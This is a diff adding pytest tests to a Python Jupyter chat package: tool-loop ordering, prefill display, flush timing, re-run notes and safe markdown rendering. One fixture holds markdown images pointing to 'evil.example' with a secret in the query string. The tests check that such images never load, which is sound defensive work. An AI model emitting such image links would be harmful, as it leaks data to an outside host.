@@ -145,7 +145,9 @@ def test_text_view_prints_stream_tools_and_footer(capsys: pytest.CaptureFixture[
     view.on_tool_result(ToolOutcome("toolu_2", "calc", {}, "oops", True, 0.1))
     view.finish(turn_of(events), running_cost=1.0)
     out = capsys.readouterr().out
-    assert out.startswith("(re-run: dropped 2 later turn(s) from chat 'x')\n")
+    assert out.startswith(
+        "(re-run: replaces this cell's earlier turn; 2 later turn(s) of chat 'x' will be dropped)\n"
+    )
     assert "[thinking]\n│ Let me think <b>hard</b>\n" in out
     assert "Hello **world** <script>" in out  # a terminal runs no HTML
     assert '[tool_use calc] {"expr": "1<2"}' in out
@@ -288,3 +290,207 @@ def test_markdown_stream_final_equals_a_full_render(
     assert reused > 200  # finished blocks were really rendered apart
     if not references:
         assert full_renders == []  # without reference definitions the pieces were reused
+
+
+# -- review fixes: --no-stream order, prefill, images, flush rate, re-run note --------------
+
+
+def _add(a: int, b: int) -> int:
+    """Add two integers."""
+    return a + b
+
+
+def _no_stream_exchange(view: Any, **kwargs: Any) -> Any:
+    from claude_magic.chat import Chat
+    from claude_magic.exchange import Exchange
+    from claude_magic.offline import Simulator
+    from claude_magic.request import RequestOptions, user_message
+    from claude_magic.tools import resolve_tools
+
+    tools = resolve_tools(["add"], {"add": _add})
+    options = RequestOptions(
+        model="claude-sonnet-4-6", max_tokens=1000, tools=[t.schema for t in tools]
+    )
+    return Exchange(
+        client=Simulator().client(),
+        chat=Chat("x"),
+        user=user_message("Please add 2 and 40 with add"),
+        options=options,
+        view=view,
+        offline=True,
+        tools=tools,
+        stream=False,
+        **kwargs,
+    )
+
+
+def _order(out: str, *needles: str) -> list[int]:
+    return [out.index(needle) for needle in needles]
+
+
+def test_no_stream_tool_loop_prints_in_order(capsys: pytest.CaptureFixture[str]) -> None:
+    _no_stream_exchange(TextView()).run()
+    out = capsys.readouterr().out
+    at = _order(out, "I'll call `add`", '[tool_use add] {"a": 2, "b": 40}', "[tool_result add] 42")
+    assert at == sorted(at)
+    assert at[2] < out.index("I received 1 tool result(s)") < out.index("chat total")
+    assert out.count("[tool_result add] 42") == 1
+
+
+def test_no_stream_failure_prints_what_arrived_in_order(capsys: pytest.CaptureFixture[str]):
+    from claude_magic.errors import ExchangeFailed
+
+    with pytest.raises(ExchangeFailed):
+        _no_stream_exchange(TextView(), max_iterations=1).run()
+    out = capsys.readouterr().out
+    at = _order(out, "[tool_use add]", "[tool_result add] 42", "· tool_use\n", "Stopped after 1")
+    assert at == sorted(at)
+
+
+def test_no_stream_tool_loop_through_the_magic(ipython, capsys: pytest.CaptureFixture[str]):
+    ipython.run_cell("def add(a: int, b: int) -> int:\n    'Add two integers.'\n    return a + b\n")
+    capsys.readouterr()
+    ipython.run_cell_magic("claude", "--no-stream --tools add", "Please add 2 and 40 with add")
+    out = capsys.readouterr().out
+    at = _order(out, "[tool_use add]", "[tool_result add] 42", "I received 1 tool result(s)")
+    assert at == sorted(at)
+
+
+def test_text_view_shows_the_prefill_before_the_first_text(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    view = TextView()
+    view.begin(ExchangeInfo(chat="x", model="m", offline=False, prefill="Hello "))
+    for event in stream_events(SSE(stop_reason="tool_use").text("world", ".").tool_use("t", {})):
+        view.on_event(event)
+    for event in stream_events(SSE().text("Second call.")):  # a later call: no prefill
+        view.on_event(event)
+    out = capsys.readouterr().out
+    assert out.startswith("Hello world.\n[tool_use t]")
+    assert out.count("Hello") == 1 and "Second call." in out
+
+
+def test_text_view_prefill_of_a_first_call_without_text(capsys: pytest.CaptureFixture[str]):
+    view = TextView()
+    view.begin(ExchangeInfo(chat="x", model="m", offline=False, prefill="{"))
+    for event in stream_events(SSE(stop_reason="tool_use").tool_use("t", {})):
+        view.on_event(event)
+    assert capsys.readouterr().out.endswith("[tool_use t] {}\n{\n")
+
+
+IMAGE = (
+    "See ![p](https://evil.example/x.png?q=SECRET) and ![r][ref].\n\n"
+    "[ref]: https://evil.example/r.png\n"
+)
+
+
+def _frontend_markdown(text: str) -> str:
+    """text/markdown as a frontend renders it: full CommonMark, images and raw HTML on."""
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark").render(text)
+
+
+def test_markdown_images_never_load() -> None:
+    html = render.markdown_to_html(IMAGE)
+    assert "<img" not in html
+    assert '!<a href="https://evil.example/x.png?q=SECRET">p</a>' in html
+    assert '!<a href="https://evil.example/r.png">r</a>' in html
+    markdown = render.safe_markdown(IMAGE)
+    assert "https://evil.example/x.png?q=SECRET" in markdown
+    shown = _frontend_markdown(markdown)
+    assert "<img" not in shown and 'href="https://evil.example/x.png?q=SECRET"' in shown
+    stream = render.MarkdownStream()
+    for end in range(1, len(IMAGE) + 1, 7):
+        stream.update(IMAGE[:end])
+        assert "<img" not in stream.html(0)
+    assert stream.final(IMAGE) == (render.text_html(IMAGE), markdown)
+    code = "```md\n![p](https://x/y.png)\n```\n"
+    assert "\n![p](https://x/y.png)\n" in render.safe_markdown(code)  # code stays verbatim
+
+
+def test_static_bundle_has_no_images() -> None:
+    turn = turn_of(stream_events(SSE().text(IMAGE)))
+    bundle = static_bundle(turn, offline=False, running_cost=None)
+    for mime in ("text/html", "text/markdown"):
+        assert "<img" not in bundle[mime]
+        assert "https://evil.example/x.png?q=SECRET" in bundle[mime]
+    assert "<img" not in _frontend_markdown(bundle["text/markdown"])
+
+
+class CountingStream:
+    def __init__(self) -> None:
+        self.text = ""
+        self.flushes = 0
+
+    def write(self, text: str) -> int:
+        self.text += text
+        return len(text)
+
+    def flush(self) -> None:
+        self.flushes += 1
+
+
+class FakeClock:
+    def __init__(self) -> None:
+        self.now = 0.0
+
+    def __call__(self) -> float:
+        return self.now
+
+
+def test_text_view_flushes_on_a_clock_not_per_delta() -> None:
+    out, clock = CountingStream(), FakeClock()
+    view = TextView(out, clock=clock)
+    view.begin(ExchangeInfo(chat="x", model="m", offline=False))
+    chunks = ["tok "] * 1000
+    events = stream_events(SSE().text(*chunks))
+    flushed_at: list[int] = []
+    for event in events:
+        if event.type == "content_block_delta":
+            clock.now += 0.001  # 1000 deltas/s
+        view.on_event(event)
+        if event.type == "content_block_delta" and not flushed_at:
+            flushed_at.append(out.flushes)
+    assert flushed_at == [1]  # the first token shows at once
+    streamed = out.flushes
+    assert 18 <= streamed <= 1 / 0.05 + 3  # ~one flush per 50 ms, not 1000
+    view.finish(turn_of(events), running_cost=0.0)
+    assert out.text.startswith("tok " * 1000)
+    assert out.flushes > streamed and out.text.endswith("end_turn · chat total $0.0000\n")
+
+
+def test_text_view_flushes_lines_and_block_ends_at_once() -> None:
+    out = CountingStream()
+    view = TextView(out, clock=FakeClock())  # the clock never advances
+    flushes = {}
+    for event in stream_events(SSE().text("a", "b\n", "c", "d").tool_use("t", {})):
+        view.on_event(event)
+        if event.type == "content_block_delta" and event.delta.type == "text_delta":
+            flushes[event.delta.text] = out.flushes
+        elif event.type == "content_block_stop" and event.content_block.type == "text":
+            flushes["stop"] = out.flushes
+    # "a" shows at once, "b\n" ends a line, "c" and "d" wait until the block ends
+    assert flushes == {"a": 1, "b\n": 2, "c": 2, "d": 2, "stop": 3}
+    assert out.text == "ab\ncd\n[tool_use t] {}\n"
+
+
+def test_rerun_note_says_what_will_happen() -> None:
+    assert render.dropped_note(0, "x") is None
+    before = render.dropped_note(3, "tutor")
+    assert before == (
+        "(re-run: replaces this cell's earlier turn; 3 later turn(s) of chat 'tutor' "
+        "will be dropped)"
+    )
+    after = render.dropped_note(3, "tutor", committed=True)
+    assert after is not None and "dropped 3 later turn(s) of chat 'tutor'" in after
+
+
+def test_reply_blocks_names_tool_results() -> None:
+    replies = [
+        {"role": "assistant", "content": [{"type": "tool_use", "id": "t1", "name": "add"}]},
+        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1"}]},
+        {"role": "assistant", "content": "plain"},
+    ]
+    assert [name for _, name in render.reply_blocks(replies)] == [None, "add", None]
+    assert list(render.reply_blocks(replies))[2][0] == {"type": "text", "text": "plain"}
